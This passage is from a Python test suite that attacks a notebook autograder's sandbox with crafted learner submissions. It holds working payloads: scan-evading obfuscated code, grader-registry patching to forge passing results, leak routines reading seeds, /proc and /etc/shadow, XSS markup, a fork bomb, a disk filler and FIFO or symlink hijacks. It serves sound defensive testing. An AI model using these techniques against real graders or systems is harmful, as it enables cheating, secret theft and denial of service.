"""Issue #45 ("sealed judge"), as an adversarial learner would try it: crafted submissions graded by the quick grader
(``python -m tinypaged.course grade``); tests/test_adversary_nbgrader.py grades the same submissions with nbgrader
autograde (a second file: pytest-xdist's ``--dist loadfile`` runs the two on both workers).

The learner may run any Python: solution cells run in the checks' sandbox (and in the feedback kernel), added cells
in the feedback kernel only. Each crafted submission must earn no more than the untouched exercise or the honest
partial work it is built on (graded in the same run), be FLAGGED where it tampered with what the judge reads (test
cells, metadata, the submission folder), read and write nothing outside
its sandbox (secrets are planted in the instructor's notebook, its hidden-test seeds, beside the course and in
another learner's notebook; none may reach the feedback HTML or the report's learner-facing text), and leave the
grader bounded in time and memory.

The crafted notebooks (:func:`crafted`), all built from the generated exercise, the solution's cells and the
payloads below (the payloads in solution cells are hidden from the static scan by a string annotation that
``typing.get_type_hints`` evaluates):

* ``untouched`` (bob: the exercise as released, plus a markdown cell with another learner's secret), ``partial``
  (carol: BlockAllocator and slot_mapping solved, honest): the baselines of stage 2; ``untouched_08`` of stage 8.
* ``code_partial``: ``partial`` plus, in the solution cells, (a) a patch of the checks' registry (``make_cases``
  of every check replaced by cases that replay expected values computed inside the sandbox: the serving check's
  transformers tokens, any reference's outcomes), (b) the hidden seeds read from gc objects, frames, stdin,
  ``/proc``, the environment and files, sent back through an exception, a case's replay note, a cell's error and
  the stderr tail of a process that ``os._exit``\\s, (c) paged attention computed with stage 5's
  ``paged_attention_reference`` / ``gather_then_attend`` reached through importlib, ``sys.modules``, a getattr
  chain, a ``get_type_hints`` string annotation and a subscript (``[tinypaged][0].kernels``).
* ``code_08``: stage 8's exercise plus (a) and (b): the serving check's expected tokens computed in the sandbox with
  the tiny model.
* ``kernel_misc``: the exercise plus added cells: a spy on ``check`` for the hidden seeds, the kernel's history and
  ``/io``; reads of the instructor's notebook, a file beside the course, another learner's notebook and
  ``/etc/shadow``; a write outside; FIFOs and links to ``/dev/zero`` and host files in every writable place
  (``/io``, the working directory, ``/tmp``, ``/dev/shm``); a disk filler; a bounded fork bomb; ``<script>``,
  ``onerror=`` and ``javascript:`` in outputs and markdown; last, a hang with SIGINT ignored (the payloads sit in
  solution cells guarded to run in the kernel only, so that nbgrader, which keeps only graded cells' outputs, shows
  them too; the hang is an added cell).
* ``kernel_drip``: the exercise plus a cell that uses 0.6 s of CPU every 2 s, forever.
* ``stage6_as_02``: the stage 6 solution handed in as ``02_block_table.ipynb``.
* ``tampered_meta``: ``partial`` with its test cells' nbgrader metadata edited (grade off, points, grade_id renamed,
  re-marked as a solution) and a shadow cell carrying a test cell's grade_id before the real one.
* hazards (each graded alone: one that hangs or grows the grader must not hide the others): a daemon forked from the
  feedback kernel that, once the kernel is gone, replaces the runner's files in ``/io`` with a FIFO
  (``hazard_fifo``), a link to ``/dev/zero`` (``hazard_zero``) or a link to the instructor's notebook on the host
  (``hazard_hostlink``), which the root grader then reads.

Small limits (``LIMITS``) keep the hangs cheap. Phase results of the suite against the code of the time are in the
report of the task that wrote it (issue #45).
"""

from __future__ import annotations

import copy
import glob
import html.parser
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import threading
import time
import uuid
from pathlib import Path

import pytest

from tinypaged.course import coursework
from tinypaged.course.grading import notebook as nbk

ROOT = coursework.ROOT
LIMITS = ["--cpu-timeout", "10", "--serving-cpu-timeout", "30", "--timeout", "10", "--idle", "10"]
GRADING_BOUND_S = 300  # wall seconds any one submission's grading may take here (a loaded 2-core machine)
RUN_BOUND_S = 420  # wall seconds for one grader invocation (the batch; a hazard alone gets HAZARD_BOUND_S)
HAZARD_BOUND_S = 180
RSS_CAP = 3 << 30  # the root grader's resident memory: past this it is killed and the test fails
DISK_PROBE = 1 << 30  # the disk filler stops by itself after writing this much to one place
WATCHED = [ROOT / "tinypaged" / "course" / "checks" / "stage02.py", ROOT / "solutions" / "02_block_table.ipynb",
           ROOT / "solutions" / "08_serve_over_http.ipynb"]

pytestmark = pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap (bwrap) is not installed")


# ---------------------------------------------------------------- secrets: what no learner may see

class Secrets:
    """Strings planted where a learner must never reach: the instructor's notebook (hidden-test seeds, a comment in
    the hidden tests, a line in a solution region, an output), a file beside the course, another learner's
    notebook, and ``/etc/shadow``'s first line."""

    def __init__(self):
        tag = uuid.uuid4().hex[:12]
        self.hidden = f"ADVERSARY-SECRET-HIDDEN-{tag}"
        self.source = f"ADVERSARY-SECRET-SOURCE-{tag}"
        self.output = f"ADVERSARY-SECRET-OUTPUT-{tag}"
        self.file = f"ADVERSARY-SECRET-FILE-{tag}"
        self.other = f"ADVERSARY-SECRET-OTHER-{tag}"
        base = 846193700 + int(tag[:4], 16) % 50 * 1000
        self.seeds = {5201: base + 21, 5202: base + 22, 5203: base + 23, 5204: base + 24, 5205: base + 25,
                      8101: base + 81, 6101: base + 61, 6102: base + 62, 6103: base + 63}
        try:
            first = Path("/etc/shadow").read_text().splitlines()[0]
            self.shadow = first if len(first) > 12 else None
        except (OSError, IndexError):
            self.shadow = None
        self.sleep = f"{4000 + int(tag[:3], 16) % 900}.{int(tag[3:6], 16) % 997}"  # the fork bomb's children

    def table(self, other: bool = True) -> dict:
        out = {"hidden comment": self.hidden, "solution region": self.source, "source output": self.output,
               "file beside the course": self.file}
        if other:
            out["another learner's notebook"] = self.other
        if self.shadow:
            out["/etc/shadow"] = self.shadow
        for public, secret in self.seeds.items():
            out[f"hidden seed (was {public})"] = str(secret)
        return out

    def found(self, text: str, other: bool = True) -> list[str]:
        return [label for label, s in self.table(other).items() if s in text]


def instructor_notebook(src: Path, secrets: Secrets) -> dict:
    """The instructor's notebook with the secrets in it (seeds changed; every check works with any seed)."""
    nb = nbk.read(src)
    for cell in nb["cells"]:
        text = nbk.source_of(cell)
        if nbk.is_test(cell) and nbk.BEGIN_HIDDEN in text:
            for public, secret in secrets.seeds.items():
                text = text.replace(f"hidden={public})", f"hidden={secret})")
            text = text.replace(nbk.BEGIN_HIDDEN + "\n", f"{nbk.BEGIN_HIDDEN}\n# {secrets.hidden}\n")
        if nbk.is_solution(cell) and cell["cell_type"] == "code" and nbk.BEGIN in text:
            lines = text.split("\n")
            at = next(i for i, line in enumerate(lines) if line.strip() == nbk.BEGIN)
            indent = lines[at][: len(lines[at]) - len(lines[at].lstrip())]
            lines.insert(at + 1, f"{indent}_instructor_note = {secrets.source!r}")
            text = "\n".join(lines)
            cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": secrets.output + "\n"}]
        cell["source"] = text
    return nb


def instructor_solutions(folder: Path, secrets: Secrets) -> Path:
    """A --solutions folder for stages 2, 6 and 8 with the secrets in it."""
    folder.mkdir(parents=True, exist_ok=True)
    for name in ("02_block_table", "06_serving_and_knobs", "08_serve_over_http"):
        (folder / f"{name}.ipynb").write_text(json.dumps(instructor_notebook(ROOT / "solutions" / f"{name}.ipynb",
                                                                             secrets)))
    return folder


# ---------------------------------------------------------------- payloads

def trampoline(payload: str, tag: str) -> str:
    """Solution-cell code whose payload the static scan never sees: ``typing.get_type_hints`` evaluates the string
    annotation ``exec(_P)`` in the module's globals (the payload is hex: no name, dunder or import to read)."""
    return (f"import typing\n\n_P_{tag} = bytes.fromhex({payload.encode().hex()!r}).decode()\n\n\n"
            f"def _hint_{tag}(x: 'exec(_P_{tag})'):\n    pass\n\n\ntyping.get_type_hints(_hint_{tag})\n")


# Everything a learner's code can look at for the hidden seeds and the secrets; the result is one line, the
# summary first (the error channels keep 160-400 characters). Memoized: a check may call it many times.
LEAK = r'''
_ADV_MEMO = []


def _adv_leak(paths=@PATHS@, dirs=@DIRS@):
    if _ADV_MEMO:
        return _ADV_MEMO[0]
    import gc, glob, json, os, re, select, sys
    seeds, marks, where, reads = set(), set(), [], []

    def grab(label, data):
        if isinstance(data, bytes):
            data = data.decode("utf-8", "replace")
        elif not isinstance(data, str):
            try:
                data = json.dumps(data, default=repr)
            except Exception:
                data = repr(data)
        s = set(re.findall(r"hidden\W{0,4}(\d{3,})", data))
        m = set(re.findall(r"ADVERSARY-SECRET-[A-Z]+-[0-9a-f]{8,}", data))
        if s - seeds or m - marks:
            where.append(label)
        seeds.update(s)
        marks.update(m)

    for o in gc.get_objects():
        if isinstance(o, dict) and ("calls" in o or "hidden" in o or "cases" in o):
            grab("gc", o)
    for f in list(sys._current_frames().values()):
        while f is not None:
            for k, v in list(f.f_locals.items()):
                if isinstance(v, (dict, list, tuple, str, bytes)):
                    grab("frame " + f.f_code.co_name, v)
            f = f.f_back
    try:
        if select.select([0], [], [], 0.05)[0]:
            grab("stdin", os.read(0, 1 << 20))
    except Exception:
        pass
    grab("environ", dict(os.environ))
    files = glob.glob("/proc/*/cmdline") + glob.glob("/proc/*/environ") + glob.glob("/io/*") + glob.glob("*") \
        + glob.glob("cells/*") + glob.glob("/tmp/*") + glob.glob("/dev/shm/*") \
        + ["job.json", "events.jsonl", "/opt/tinypaged/tinypaged/course/checks/expected_visible.json"]
    for p in files:
        try:
            if os.path.isfile(p) and os.path.getsize(p) < (64 << 20):
                with open(p, "rb") as fh:
                    grab(p, fh.read())
        except Exception:
            pass
    for label, p in paths:
        try:
            with open(p, "rb") as fh:
                grab(label, fh.read())
            reads.append("READ-OK:" + label)
        except Exception:
            pass
    for label, d in dirs:
        try:
            grab(label, " ".join(os.listdir(d)))
            reads.append("LIST-OK:" + label)
        except Exception:
            pass
    try:
        ip = get_ipython()
        grab("history", "\n".join(ip.user_ns.get("In", [])))
        grab("outputs", repr(ip.user_ns.get("Out", {})))
    except Exception:
        pass
    _ADV_MEMO.append("LEAKED seeds=" + ",".join(sorted(seeds)) + " marks=" + ",".join(sorted(marks))
                     + " " + " ".join(reads) + " from=" + ",".join(where[:12]))
    return _ADV_MEMO[0]


def _adv_note():
    """Attach the leak to the running case as its replay note (shown after a failing case, hidden ones too)."""
    import sys
    f = sys._getframe(1)
    while f is not None:
        t = f.f_locals.get("t")
        if t is not None and hasattr(t, "replay"):
            try:
                t.replay(_adv_leak())
            except Exception:
                pass
            return
        f = f.f_back


def _adv_die():
    """In the checks' process: the leak on stderr, then end the process (the kill message quotes stderr's tail).
    In a kernel: raise it instead (so the feedback run goes on)."""
    import os, sys
    if "ipykernel" in sys.modules:
        raise RuntimeError(_adv_leak())
    sys.stderr.write(_adv_leak() + "\n")
    sys.stderr.flush()
    os._exit(3)
'''

# The checks' registry patched from inside: every check's cases replaced by cases that replay expected values
# computed here (a serving check's from transformers or the tiny model, others from the package's references),
# plus the judging helpers, in case this process judged anything.
PATCH = r'''
def _adv_patch():
    import sys
    if "ipykernel" in sys.modules:  # the feedback run is not graded: patch only the checks' process
        return "kernel"
    from tinypaged.course import checks as C
    busy = []
    for name, chk in list(C.REGISTRY.items()):
        real = chk.make_cases

        def make(hidden, _chk=chk, _real=real):
            if busy:
                return _real(hidden)
            busy.append(1)
            try:
                want = _chk.expected(hidden) if _chk.expected is not None else C.expected_outcomes(_chk.name, hidden)
            except BaseException:
                return _real(hidden)
            finally:
                busy.pop()
            return [C.Case(f"forged {i}", lambda impl, t, _s=o["steps"]: [t(d, v) for d, v in _s] and None)
                    for i, o in enumerate(want)]

        chk.make_cases = make
    C.judge = lambda check, record, hidden=None: {"check": check.name, "hidden": hidden, "passed": 1.0, "total": 1.0,
                                                  "status": C.PASS, "message": "", "failed_cases": 0}
    C.compare_case = lambda want, got, tol=0.0: (True, False, "")
    return sorted(C.REGISTRY)


try:
    _adv_patched = _adv_patch()
except Exception as e:
    _adv_patched = repr(e)
'''

# Forged observations: the serving check's own code runs in the sandbox, so its helpers (the preflight, the plug-in
# checks, the call counts) and the engine it builds can be replaced there: a fake LLM whose "greedy tokens" are
# transformers' own, computed in the sandbox (the weights are bound in for the serving check).
FAKE = r'''
def _adv_fake():
    import sys, types
    if "ipykernel" in sys.modules:
        return "kernel"
    import tinypaged
    import tinypaged.llm
    from tinypaged.course.checks import serving as S
    done = []
    for mod in [m for n, m in list(sys.modules.items()) if n.startswith("tinypaged.course.checks.stage")]:
        if hasattr(mod, "_preflight"):
            mod._preflight = lambda impl: None
            done.append(mod.__name__)
    S.check_plugins = lambda impl, adapters=(): None
    S.counted_plugins = lambda impl: (impl, {k: 1 for k in impl})
    import gc
    for fn in gc.get_objects():  # and where a serving check's closure holds the preflight already
        if isinstance(fn, types.FunctionType) and fn.__qualname__.startswith("serving_check.") and fn.__closure__:
            for c in fn.__closure__:
                try:
                    if getattr(c.cell_contents, "__name__", "") == "_preflight":
                        c.cell_contents = lambda impl: None
                        done.append(fn.__qualname__)
                except ValueError:
                    pass

    class FakeLLM:
        def __init__(self, model=None, **kw):
            self.llm_engine = types.SimpleNamespace(kv=types.SimpleNamespace(usage=0), step=lambda *a, **k: [],
                                                    abort_request=lambda ids: None)

        def generate(self, prompts, params=None, **kw):
            tokens = S.hf_greedy(tuple(prompts), params.max_tokens)
            return [types.SimpleNamespace(outputs=[types.SimpleNamespace(token_ids=list(t))]) for t in tokens]

    tinypaged.LLM = FakeLLM
    tinypaged.llm.LLM = FakeLLM
    return done


try:
    _adv_faked = _adv_fake()
except Exception as e:
    _adv_faked = repr(e)
'''

# Stage 5's references (and stage 2's own) reached every way the scan used to miss.
REFS = r'''
def _adv_routes():
    import importlib, sys, typing
    import tinypaged
    for name in ("tinypaged.kernels", "tinypaged.kernels.reference"):
        try:
            importlib.import_module(name)
        except Exception:
            pass

    def _h(k: "tinypaged.kernels"):
        pass

    tries = [lambda: importlib.import_module("tinypaged.kernels").paged_attention_reference,
             lambda: sys.modules["tinypaged.kernels.reference"].gather_then_attend,
             lambda: getattr(getattr(getattr(tinypaged, "kernels"), "reference"), "paged_attention_reference"),
             lambda: typing.get_type_hints(_h)["k"].gather_then_attend,
             lambda: vars(sys.modules["tinypaged.kernels"])["paged_attention_reference"]]
    out = []
    for t in tries:
        try:
            out.append(t())
        except Exception:
            pass
    return out
'''


def fill(text: str, places: dict) -> str:
    """Placeholders replaced: a string value as it is (code), anything else as its repr (a literal)."""
    for k, v in places.items():
        text = text.replace(k, v if isinstance(v, str) else repr(v))
    return text


# ---------------------------------------------------------------- crafted notebooks

def _code(src: str, meta: dict | None = None) -> dict:
    return {"cell_type": "code", "metadata": meta or {}, "source": src, "outputs": [], "execution_count": None}


def _md(src: str) -> dict:
    return {"cell_type": "markdown", "metadata": {}, "source": src}


def cell(nb: dict, gid: str) -> dict:
    return next(c for c in nb["cells"] if nbk.grade_id(c) == gid)


def insert_after(nb: dict, gid: str, *cells: dict) -> None:
    at = nb["cells"].index(cell(nb, gid)) + 1
    nb["cells"][at:at] = list(cells)


def solution_code(stage_file: str, gid: str) -> str:
    return nbk.source_of(cell(nbk.read(ROOT / "solutions" / stage_file), gid))


def untouched(base: dict, secrets: Secrets) -> dict:
    nb = copy.deepcopy(base)
    nb["cells"].append(_md(f"My notes (bob): {secrets.other}"))
    return nb


def partial(base: dict) -> dict:
    nb = copy.deepcopy(base)
    for gid in ("BlockAllocator", "slot_mapping"):
        cell(nb, gid)["source"] = solution_code("02_block_table.ipynb", gid)
    return nb


def code_partial(base: dict, places: dict) -> dict:
    nb = partial(base)
    leak = fill(LEAK, places)
    cell(nb, "BlockTables")["source"] = trampoline(leak + PATCH + "\nprint(_adv_leak())\n", "bt") + (
        "\n\nclass BlockTables:\n    def __init__(self, allocator, block_size):\n        self.tables = {}\n"
        "        _adv_note()\n        raise RuntimeError(_adv_leak())\n")
    cell(nb, "gather_kv")["source"] = (
        "def gather_kv(cache, block_table, context_len):\n    _adv_die()\n"
        "    raise NotImplementedError(\"not implemented yet\")\n\n\nraise RuntimeError(_adv_leak())\n")
    cell(nb, "paged_attention")["source"] = trampoline(REFS, "pa") + (
        "\nimport tinypaged\n\n\ndef paged_attention(query, key_cache, value_cache, block_tables, seq_lens, scale):\n"
        "    fns = _adv_routes() + [lambda *a: [tinypaged][0].kernels.paged_attention_reference(*a),\n"
        "                           lambda *a: [tinypaged][0].kernels.gather_then_attend(*a)]\n"
        "    for f in fns:\n        try:\n"
        "            return f(query, key_cache, value_cache, block_tables, seq_lens, scale)\n"
        "        except Exception:\n            continue\n"
        "    raise NotImplementedError(\"not implemented yet\")\n")
    return nb


def code_fake(base: dict) -> dict:
    """The untouched exercise whose first solution cell fakes the engine for the serving check (``FAKE``)."""
    nb = copy.deepcopy(base)
    cell(nb, "BlockAllocator")["source"] = trampoline(FAKE, "fk") + "\n\n" + nbk.source_of(cell(nb, "BlockAllocator"))
    return nb


def code_08(base: dict, places: dict) -> dict:
    nb = copy.deepcopy(base)
    cell(nb, "sse_stream")["source"] = trampoline(fill(LEAK, places) + PATCH + "\nprint(_adv_leak())\n", "sse") + (
        "\n\ndef sse_stream(call, events, include_usage):\n    _adv_note()\n    raise RuntimeError(_adv_leak())\n")
    return nb


XSS_MARKDOWN = ("Notes <script>window.ADV_XSS_MD=1</script> <img src=x onerror=\"window.ADV_XSS_MDIMG=1\">\n\n"
                "<a href=\"javascript:window.ADV_XSS_LINK=1\">click</a> <svg onload=\"window.ADV_XSS_SVG=1\"></svg>\n"
                "<iframe srcdoc=\"<script>window.ADV_XSS_SRCDOC=1</script>\"></iframe>\n\n"
                "[md link](javascript:window.ADV_XSS_MDLINK=1)\n")
XSS_CODE = r'''
from IPython.display import HTML, Javascript, display
display(HTML('<script>window.ADV_XSS_HTML=1</script><img src=x onerror="window.ADV_XSS_HTMLIMG=1">'))
display(Javascript("window.ADV_XSS_JS=1"))
display({"text/html": '<svg onload="window.ADV_XSS_SVG2=1"></svg><a href="javascript:window.ADV_XSS_A=1">a</a>',
         "text/markdown": "<script>window.ADV_XSS_MDOUT=1</script>",
         "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload='window.ADV_XSS_SVGIMG=1'/>"}, raw=True)
display({"text/markdown": "<img src=x onerror=\"window.ADV_XSS_MDOUT2=1\">"}, raw=True)
print("<script>window.ADV_XSS_STREAM=1</script>")
raise ValueError('<img src=x onerror="window.ADV_XSS_ERR=1">')
'''

# The folders of the host a sandboxed process can write (bind mounts that are not the sandbox's own tmpfs): the
# feedback run's /io was one, and the root grader read back what was left there.
HOST_WRITABLE = r'''
def _host_writable():
    import os
    out = []
    try:
        lines = open("/proc/self/mountinfo").read().splitlines()
    except OSError:
        lines = []
    for line in lines:
        parts = line.split()
        if "-" not in parts:
            continue
        sep = parts.index("-")
        mnt, opts, fstype = parts[4], parts[5].split(","), parts[sep + 1]
        if "rw" in opts and fstype not in ("tmpfs", "proc", "devtmpfs", "devpts", "mqueue", "sysfs", "cgroup",
                                           "cgroup2") and not mnt.startswith(("/dev", "/proc", "/sys")) \
                and os.path.isdir(mnt) and os.access(mnt, os.W_OK):
            out.append(mnt)
    if os.path.isdir("/io") and os.access("/io", os.W_OK) and "/io" not in out:
        out.append("/io")
    return out
'''

KERNEL_MISC = HOST_WRITABLE + r'''
import json, os, time
RESULTS = {"host-writable mounts": _host_writable()}
# a spy on the checks: every hidden seed the test cells pass, for the last cell to print
import tinypaged.course.checks as _C
_SEEN = []
_orig_check = _C.check


def _spy(name, impl, hidden=None, *a, **k):
    _SEEN.append((name, hidden))
    return _orig_check(name, impl, hidden, *a, **k)


_C.check = _spy
# outside the sandbox
try:
    with open(@MARK@, "w") as fh:
        fh.write("escaped")
    RESULTS["write outside"] = "WRITE-OK"
except Exception as e:
    RESULTS["write outside"] = type(e).__name__
# FIFOs and links in every writable place (for whoever reads them later)
places = [p for p in dict.fromkeys(RESULTS["host-writable mounts"] + [os.getcwd(), "/tmp", "/dev/shm",
                                                                       os.path.expanduser("~")])
          if os.path.isdir(p)]
for place in places:
    for name, make in (("fifo", lambda p: os.mkfifo(p)), ("zero.ipynb", lambda p: os.symlink("/dev/zero", p)),
                       ("source.ipynb", lambda p: os.symlink(@SOURCE@, p)),
                       ("shadow", lambda p: os.symlink("/etc/shadow", p))):
        try:
            make(os.path.join(place, "adv-" + name))
            RESULTS.setdefault("planted", []).append(place + "/" + name)
        except Exception:
            pass
# a bounded fork bomb: children that sleep (named, so the test finds any that survive grading)
kids = []
t0 = time.time()
while len(kids) < 300 and time.time() - t0 < 5:
    try:
        pid = os.fork()
    except OSError as e:
        RESULTS["fork refused"] = f"after {len(kids)}: {e}"
        break
    if pid == 0:
        try:
            os.setsid()
            os.execv("/bin/sleep", ["sleep", "@SLEEP@"])
        finally:
            os._exit(0)
    kids.append(pid)
RESULTS["forks"] = len(kids)
# a disk filler (it stops by itself at DISK_PROBE bytes a place)
chunk = b"\0" * (64 << 20)
for place in places:
    written, n = 0, 0
    try:
        while written < @DISK@:
            with open(os.path.join(place, f"adv-fill{n}"), "wb") as fh:
                fh.write(chunk)
            written += len(chunk)
            n += 1
    except OSError:
        pass
    RESULTS[f"disk {place}"] = written >> 20
print("KERNEL RESULTS " + json.dumps(RESULTS))
'''

KERNEL_LAST = r'''
print("SPIED", _SEEN)
print("KLEAK", _adv_leak())
'''

HANG = "import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\ntime.sleep(10 ** 6)\n"
DRIP = ("import time\nwhile True:\n    t = time.process_time()\n    while time.process_time() - t < 0.6:\n        pass\n"
        "    time.sleep(1.4)\n")


def in_kernel_only(code: str) -> str:
    """Solution-cell code that runs only in the feedback kernel (the checks' process skips it): nbgrader keeps the
    outputs of the cells it knows by grade_id, so what a solution cell prints there reaches the feedback."""
    return f"import sys\n\nif 'ipykernel' in sys.modules:\n    exec(bytes.fromhex({code.encode().hex()!r}).decode())\n\n"


def kernel_misc(base: dict, places: dict) -> dict:
    """The kernel's attacks in solution cells (guarded: the feedback kernel only), a markdown cell with scripts, and
    an added cell that hangs with SIGINT ignored."""
    nb = copy.deepcopy(base)
    for gid, code in (("BlockAllocator", fill(KERNEL_MISC, places)), ("slot_mapping", XSS_CODE),
                      ("paged_attention", fill(LEAK, places) + KERNEL_LAST)):
        cell(nb, gid)["source"] = in_kernel_only(code) + nbk.source_of(cell(nb, gid))
    insert_after(nb, "setup", _md(XSS_MARKDOWN))
    insert_after(nb, "test_serve", _code(HANG))
    return nb


def kernel_drip(base: dict) -> dict:
    nb = copy.deepcopy(base)
    insert_after(nb, "setup", _code(DRIP))
    return nb


# A daemon forked from the feedback kernel: once the kernel is gone it replaces every file the runner rewrites in
# /io (the executed notebook the root grader reads back) with a FIFO or a symbolic link, until the sandbox ends.
HAZARD = HOST_WRITABLE + r'''
import os, time
MODE, TARGET, DIRS = @MODE@, @TARGET@, _host_writable()
kernel = os.getpid()
if MODE == "flood":  # an output far larger than any notebook: the grader must cap what it reads and writes
    line = "x" * ((1 << 20) - 1)
    for _ in range(96):
        print(line)
    DIRS = []
if DIRS and os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        seen, end = {}, time.time() + 900
        while time.time() < end:
            try:
                os.kill(kernel, 0)
                alive = True
            except ProcessLookupError:
                alive = False
            for name, p in [(n, os.path.join(d, n)) for d in DIRS for n in os.listdir(d)]:
                if name.startswith(".adv") or not os.path.isfile(p) or os.path.islink(p):
                    continue
                st = os.stat(p)
                key = (st.st_ino, st.st_mtime_ns)
                if alive:
                    seen[name] = key
                elif seen.get(name) != key or name.endswith(".ipynb"):
                    tmp = os.path.join(os.path.dirname(p), ".adv-" + name)
                    try:
                        if MODE == "fifo":
                            os.mkfifo(tmp)
                        else:
                            os.symlink(TARGET, tmp)
                        os.replace(tmp, p)
                    except OSError:
                        pass
            time.sleep(0.002)
        os._exit(0)
    os._exit(0)
print("daemon started in", DIRS if DIRS else "no host-writable folder")
'''


def hazard(base: dict, mode: str, target: str | None) -> dict:
    nb = copy.deepcopy(base)
    insert_after(nb, "setup", _code(fill(HAZARD, {"@MODE@": repr(mode), "@TARGET@": repr(target)})))
    return nb


def tampered_meta(base: dict) -> dict:
    nb = partial(base)
    m = lambda gid: cell(nb, gid)["metadata"].setdefault("nbgrader", {})  # noqa: E731
    m("test_block_allocator")["grade"] = False
    m("test_slot_mapping")["points"] = 100
    m("test_block_tables")["grade_id"] = "test_block_tables_renamed"
    m("test_gather_kv").update(solution=True, locked=False)
    shadow = _code("print('all tests passed')", {"nbgrader": {"grade": True, "solution": False, "locked": True,
                                                              "grade_id": "test_paged_attention", "points": 2,
                                                              "schema_version": 3}})
    insert_after(nb, "paged_attention", shadow)
    return nb


def stage6_as_02() -> dict:
    return nbk.read(ROOT / "solutions" / "06_serving_and_knobs.ipynb")


def link_folder(folder: Path, links: dict) -> None:
    """Symbolic links (and a plain extra file) beside a submission: nbgrader used to copy what they point to."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, target in links.items():
        (folder / name).symlink_to(target)
    (folder / "extra-notes.txt").write_text("an extra file the learner added\n")


# ---------------------------------------------------------------- running a grader, watched

def watched_run(argv: list[str], env: dict, timeout: float, cwd: Path = ROOT) -> dict:
    """Run a grader command; kill it (and its sandboxes) past ``timeout`` seconds or ``RSS_CAP`` of resident memory.
    Returns rc, stdout, stderr, wall seconds, the peak resident memory and why it was stopped (None: it was not)."""
    import psutil

    t0 = time.monotonic()
    proc = subprocess.Popen(argv, cwd=cwd, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            start_new_session=True)
    out: dict = {}
    readers = [threading.Thread(target=lambda k=k, f=f: out.__setitem__(k, f.read()), daemon=True)
               for k, f in (("stdout", proc.stdout), ("stderr", proc.stderr))]
    for r in readers:
        r.start()
    peak, stopped = 0, None
    ps = psutil.Process(proc.pid)
    while proc.poll() is None:
        try:
            peak = max(peak, ps.memory_info().rss)
        except psutil.Error:
            pass
        if peak > RSS_CAP:
            stopped = f"the grader grew to {peak >> 20} MiB of resident memory (cap {RSS_CAP >> 20} MiB)"
        elif time.monotonic() - t0 > timeout:
            stopped = f"the grader ran past {timeout:g} s"
        if stopped:
            try:
                os.killpg(proc.pid, signal.SIGKILL)
            except ProcessLookupError:
                pass
            break
        time.sleep(0.1)
    proc.wait()
    for r in readers:
        r.join(30)
    return {"rc": proc.returncode, "stdout": out.get("stdout", b"").decode(errors="replace"),
            "stderr": out.get("stderr", b"").decode(errors="replace"), "wall": time.monotonic() - t0,
            "peak": peak, "stopped": stopped}


def env() -> dict:
    return dict(os.environ, PYTHONHASHSEED="0", PYTHONPATH=str(ROOT),
                PATH=str(Path(sys.executable).parent) + os.pathsep + os.environ["PATH"])


def quick_grade(paths: list[Path], solutions: Path, feedback: Path, timeout: float, jobs: int = 3) -> dict:
    run = watched_run([sys.executable, "-m", "tinypaged.course", "grade", "--json", "--jobs", str(jobs),
                       "--feedback", str(feedback), "--solutions", str(solutions), *LIMITS, *map(str, paths)],
                      env(), timeout)
    try:
        run["reports"] = {Path(r["notebook"]).parent.name: r for r in json.loads(run["stdout"])}
    except ValueError:
        run["reports"] = {}
    return run


def learner_text(report: dict) -> str:
    """What a learner reads of a report: messages, verdicts, errors, findings (not the instructor's ``detail``)."""
    parts = [report.get("error") or "", coursework.summary(report)]
    for t in report.get("tests", []):
        parts.append(t.get("message", ""))
        parts += [c.get("message", "") for c in t.get("checks", [])]
    parts += [e.get("error", "") or "" for e in report.get("errors", [])]
    parts += [f.get("what", "") for f in report.get("findings", [])]
    return "\n".join(parts)


class _Scripts(html.parser.HTMLParser):
    """Where an attacker's marker would run in a browser: inside a <script> element, an on* attribute, a
    javascript: URL or an iframe's srcdoc."""

    def __init__(self, marker: str):
        super().__init__(convert_charrefs=True)
        self.marker, self.found, self._in_script = marker, [], False

    def handle_starttag(self, tag, attrs):
        self._in_script = tag == "script"
        for name, value in attrs:
            value = value or ""
            if self.marker not in value:
                continue
            if name.startswith("on") or name == "srcdoc" or value.strip().lower().startswith(("javascript:", "data:")):
                self.found.append(f"<{tag} {name}={value[:80]!r}>")

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if self._in_script and self.marker in data:
            self.found.append(f"<script>{data.strip()[:80]}</script>")


def live_scripts(page: str, marker: str = "ADV_XSS") -> list[str]:
    p = _Scripts(marker)
    p.feed(page)
    return p.found


def surviving_sleepers(secrets: Secrets) -> list[int]:
    import psutil

    out = []
    for p in psutil.process_iter(["cmdline"]):
        if p.info["cmdline"] and p.info["cmdline"][:2] == ["sleep", secrets.sleep]:
            out.append(p.pid)
    return out


def kernel_results(page: str) -> dict:
    m = re.search(r"KERNEL RESULTS (\{.*?\})\s*<", page) or re.search(r"KERNEL RESULTS (\{[^\n]*\})", page)
    if not m:
        return {}
    import html as _html

    try:
        return json.loads(_html.unescape(m.group(1)))
    except ValueError:
        return {}


# ---------------------------------------------------------------- the quick grader's run (one batch + hazards)

def build_all(tmp: Path, secrets: Secrets, exercise02: dict, exercise08: dict, source_nb: Path, subs: Path,
              course_paths: dict, other: Path | None = None, listed: Path | None = None) -> dict:
    """Every crafted notebook of the batch, written to ``subs/<name>/NN_name.ipynb``: name -> path. ``course_paths``
    names more of what the payloads try to read (labels -> host paths); ``other``: another learner's notebook
    (default: the untouched one of this batch); ``listed``: the submissions' folder they try to list."""
    tmp.mkdir(parents=True, exist_ok=True)
    secret_file = tmp / "course-notes.txt"
    secret_file.write_text(f"instructor's notes: {secrets.file}\n")
    other = other or subs / "untouched" / "02_block_table.ipynb"
    paths = [("instructor's notebook", str(source_nb)), ("file beside the course", str(secret_file)),
             ("another learner's notebook", str(other)), ("/etc/shadow", "/etc/shadow")] + \
        [(k, v) for k, v in course_paths.items()]
    dirs = [("submissions", str(listed or subs)), ("the course", str(tmp))]
    places = {"@PATHS@": paths, "@DIRS@": dirs, "@MARK@": repr(str(tmp / "ESCAPED")),
              "@SOURCE@": repr(str(source_nb)), "@SLEEP@": secrets.sleep, "@DISK@": str(DISK_PROBE)}
    nbs = {
        "untouched": ("02_block_table.ipynb", untouched(exercise02, secrets)),
